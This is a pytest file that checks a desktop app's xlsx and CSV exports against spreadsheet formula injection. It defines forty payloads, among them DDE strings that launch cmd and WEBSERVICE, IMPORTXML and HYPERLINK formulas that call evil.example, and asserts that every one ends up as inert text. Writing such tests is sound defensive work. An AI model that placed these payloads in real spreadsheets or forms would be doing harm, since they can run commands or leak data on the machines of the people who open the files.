"""Text that a spreadsheet would run stays text: forty payloads in every field that others can fill."""

import csv
import re
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl import load_workbook

from desktop.domain.connections import Account
from desktop.domain.outcomes import LinkOutcome
from desktop.sheets.links_sheet import open_sheet
from tests.patience import PATIENCE_S
from tests.sheets.making_results import write_problem_rows, write_results
from tests.sheets.making_sheets import CAMPAIGN, connection, contact, refused, run_of, workbook

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","click")',
    '=WEBSERVICE("http://evil.example")',
    '=IMPORTXML("http://evil.example","//a")',
    '=DDE("cmd","/C calc","x")',
    "=1/0",
    "=NA()",
    "={1,2}",
    "=A1:A9",
    "==1",
    "=",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+49 30 1234",
    "+",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "@",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    '"=1+1',
    ";=1+1",
    ",=1+1",
    "#N/A",
    "#REF!",
)
_RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def results(folder: Path, suffix: str) -> Path:
    """Every payload as a header, as a note, as either ID, as Zoho's words, as a name of the account and of the file."""
    rows: list[tuple[str, ...]] = [("Campaign Id", "Contact Id", "Note", *PAYLOADS)]
    rows += [(CAMPAIGN, contact(number), payload) for number, payload in enumerate(PAYLOADS)]
    rows += [(CAMPAIGN, payload, "related") for payload in PAYLOADS] + [(payload, contact(99), "parent") for payload in PAYLOADS]
    sheet = open_sheet(workbook(folder / "=1+1.xlsx", rows))
    outcomes: list[LinkOutcome] = [refused(payload) for payload in PAYLOADS]
    to = replace(connection(), account=Account("=1+1", "20099", '=HYPERLINK("http://evil.example")', "@A1"))
    with run_of(sheet, folder / "run", outcomes, to) as record:
        write_results(record, folder / f"results{suffix}")
    write_problem_rows(sheet, folder / f"problems{suffix}")
    return folder / f"results{suffix}"


def test_there_are_forty() -> None:
    assert len(set(PAYLOADS)) == 40


def test_no_cell_of_a_workbook_is_a_formula_an_error_or_a_link(tmp_path: Path) -> None:
    path = results(tmp_path, ".xlsx")
    for name in (path, tmp_path / "problems.xlsx"):
        made = load_workbook(name)
        cells = [cell for page in made.worksheets for row in page.iter_rows() for cell in row if cell.value is not None]
        assert {cell.data_type for page in made.worksheets[1:] for row in page.iter_rows() for cell in row if cell.value} <= {"s"}
        assert {cell.data_type for cell in cells} <= {"s", "n"}
        assert not any(cell.hyperlink for cell in cells)
        made.close()


def test_no_field_of_a_text_file_begins_like_a_formula(tmp_path: Path) -> None:
    path = results(tmp_path, ".csv")
    for name in (path, tmp_path / "problems.csv"):
        with name.open(encoding="utf-8-sig", newline="") as file:
            fields = [field for row in csv.reader(file, strict=True) for field in row]
        assert len(fields) > 1000
        assert not [field for field in fields if field.startswith(_RUNS)]


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_libreoffice_sees_no_formula_and_no_error(tmp_path: Path, suffix: str) -> None:
    path = results(tmp_path, suffix)
    command = ["soffice", f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless", "--convert-to", "fods"]
    subprocess.run([*command, "--outdir", str(tmp_path), str(path)], check=True, timeout=PATIENCE_S, capture_output=True)
    shown = path.with_suffix(".fods").read_text(encoding="utf-8")
    assert shown.count("<table:table-row") > 100
    assert not re.findall(r"table:formula=|calcext:value-type=\"error\"|<text:a ", shown)
